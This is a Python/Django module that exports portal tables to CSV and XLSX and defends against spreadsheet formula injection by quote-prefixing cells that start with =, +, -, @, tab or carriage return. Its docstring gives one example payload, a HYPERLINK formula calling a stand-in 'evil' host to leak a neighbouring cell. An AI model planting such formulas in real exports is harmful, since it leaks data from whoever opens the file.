"""Cells the portal writes to CSV and XLSX files can never be formulas (CSV / formula injection).

OWASP's rule: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
may be run as a formula by Excel, LibreOffice or Google Sheets (``=HYPERLINK("https://evil…"&C2)``
in an agency name leaks the row next to it). In CSV such a cell is written with a leading ``'``,
which spreadsheets show as text. In XLSX the cell is stored as a string (openpyxl would otherwise
store ``=…`` as a formula) with Excel's *quote prefix* set, so it stays text even when edited.
Numbers stay numbers: only text is neutralised. Readers of the portal's own files
(score import, catalogue import) take the ``'`` off again with ``unquote_cell``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from django.utils.functional import Promise
from django.utils.translation import gettext as _

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would run gets a leading ``'``."""
    return "'" + value if is_formula_like(value) else value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell("" if v is None else v) for v in row]


def unquote_cell(value: str) -> str:
    """Undo ``csv_cell`` when reading a file back: ``'=x`` → ``=x``; other text is left as typed."""
    if len(value) > 1 and value[0] == "'" and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def xlsx_append(sheet, row: Sequence[Any]) -> None:
    """Append ``row`` to an openpyxl sheet; formula-like text is stored as quote-prefixed text."""
    sheet.append(["" if is_formula_like(v) else v for v in row])
    cells = sheet[sheet.max_row]
    for cell, value in zip(cells, row, strict=False):
        if is_formula_like(value):
            # Cell.value= would store "=…" as a formula: set the text and its type directly.
            cell._value, cell.data_type = value, "s"
            cell.quotePrefix = True


# --- the writer: tables to files (indicators.exports, the admin's export actions) -------------

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMATS = ("xlsx", "csv")


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """CSV text encoded UTF-8 with a BOM (Excel on Windows then reads Thai correctly)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(csv_row(str(h) for h in headers))
    for row in rows:
        writer.writerow(csv_row(row))
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(
    headers: Sequence[str], rows: Iterable[Sequence], title: str = "ITA", choices: Sequence[tuple[str, Sequence[str]]] = ()
) -> bytes:
    """The table as one sheet; ``choices`` are (cell range, allowed words) pairs written as Excel
    drop-down lists (data validation), e.g. ``("G2:G15", ["มี", "ไม่มี"])``."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.worksheet.datavalidation import DataValidation

    workbook = Workbook(write_only=False)
    sheet = workbook.active
    sheet.title = title[:31]
    xlsx_append(sheet, [str(h) for h in headers])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        xlsx_append(sheet, [_xlsx_value(v) for v in row])
    for index, header in enumerate(headers, start=1):
        sheet.column_dimensions[sheet.cell(row=1, column=index).column_letter].width = max(10, min(60, len(str(header)) + 6))
    sheet.freeze_panes = "A2"
    for cells, words in choices:
        # A list validation's formula is a quoted list of literals, never a cell's content: the
        # words are the portal's own ("มี", "ไม่มี"), with no quote or comma to escape.
        validation = DataValidation(type="list", formula1='"' + ",".join(words) + '"', allow_blank=True)
        validation.error = _("เลือก %(words)s") % {"words": " หรือ ".join(words)}
        validation.errorTitle = _("ค่าไม่ถูกต้อง")
        validation.showErrorMessage = True
        sheet.add_data_validation(validation)
        validation.add(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_value(value):
    """Numbers stay numbers (Decimal → float for Excel); lazy Thai labels become plain text."""
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, Promise):
        return str(value)
    return value


def download(
    filename: str,
    fmt: str,
    headers: Sequence[str],
    rows: Iterable[Sequence],
    title: str = "ITA",
    choices: Sequence[tuple[str, Sequence[str]]] = (),
) -> HttpResponse:
    """An attachment response of the table in ``fmt`` ("xlsx" or "csv"); ``choices`` as ``xlsx_bytes``."""
    if fmt == "xlsx":
        response = HttpResponse(xlsx_bytes(headers, rows, title, choices), content_type=XLSX_TYPE)
    else:
        response = HttpResponse(csv_bytes(headers, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    return response
